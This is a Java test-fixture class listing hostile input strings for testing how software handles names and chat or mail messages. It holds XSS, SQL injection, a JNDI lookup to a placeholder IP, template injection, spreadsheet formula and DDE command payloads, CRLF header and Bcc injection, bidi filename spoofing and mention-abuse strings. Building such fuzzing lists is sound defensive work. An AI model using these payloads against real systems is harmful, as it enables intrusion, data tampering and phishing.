package org.ruascope.testing;

import java.util.List;
import java.util.stream.Stream;

/** What strangers write where a name should stand. */
public final class HostileTexts {

  /** Each is well-formed XML text once its markup is escaped, and most are lines of harm. */
  public static final List<String> ALL =
      List.of(
          "<script>alert(1)</script><img src=x onerror=alert(1)>",
          "'; DROP TABLE reports; --\" ${jndi:ldap://192.0.2.1/x} {{7*7}} %n%s",
          "=HYPERLINK(\"http://192.0.2.1/\"&A1,\"x\")",
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(1+1)",
          "\uff1d1+1",
          "a\nERROR forged line",
          "a\r\n\r\nforged: header",
          "\u009b31mred\u0085next line",
          "a\u202egnp.exe\u2066\u2069\u200f",
          "\u2028\u2029\ufeff\u200b",
          "x".repeat(99) + "\ud83d\ude00".repeat(5_000),
          "x".repeat(10_000));

  /** The same, and what mail programs and chats make something of. */
  public static final List<String> IN_MESSAGES =
      Stream.concat(
              ALL.stream(),
              Stream.of(
                  "<!channel> <@U012> <https://192.0.2.1|bank>",
                  "@channel @all @here",
                  "[bank](https://192.0.2.1) ![x](https://192.0.2.1/x.png)",
                  "`end` ```block``` *b* _i_ ~s~",
                  "{{DATE(2026-01-01T00:00:00Z)}} <at>all</at> ${x}",
                  "</td></table></html><style>*{display:none}</style>",
                  "{source} {url} {rest}",
                  "x\r\nBcc: victim@example.net\r\n\r\nbody",
                  "=?utf-8?Q?=0D=0ABcc=3A_x=40example.net_=E2=80=AE?=",
                  "https://192.0.2.1/login",
                  "\u05d0\u05d1\u05d2 \u0627\u0644\u0628",
                  "\ud83d torn \udc00",
                  "\u4e00".repeat(10_000)))
          .toList();

  private HostileTexts() {}
}
